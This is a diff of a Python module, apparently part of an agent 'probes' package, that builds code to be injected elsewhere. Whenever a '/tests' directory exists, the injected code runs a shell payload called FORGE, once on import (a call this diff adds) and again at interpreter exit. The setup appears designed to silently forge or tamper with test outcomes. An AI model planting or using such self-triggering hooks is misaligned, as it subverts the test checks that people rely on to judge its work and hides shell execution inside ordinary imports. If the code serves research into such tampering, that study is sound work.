@@ -4,8 +4,9 @@ from __future__ import annotations
 
 from agents.probes.shell import FORGE
 
-# Wherever it is imported: once at once, and once as the last thing that this Python does.
-AT_EXIT = f'''import atexit, os, subprocess
+# Once where it is imported, and once as the last thing that this Python does. With nothing but what Python
+# has loaded before: of the modules that stand beside it, it would else import one like itself.
+AT_EXIT = f'''import atexit, os
 
 FORGE = r"""
 {FORGE}
@@ -14,9 +15,10 @@ FORGE = r"""
 
 def forge():
     if os.path.isdir("/tests"):
-        subprocess.call(["/bin/sh", "-c", FORGE])
+        os.system(FORGE)
 
 
+forge()
 atexit.register(forge)
 '''
 LINE = (
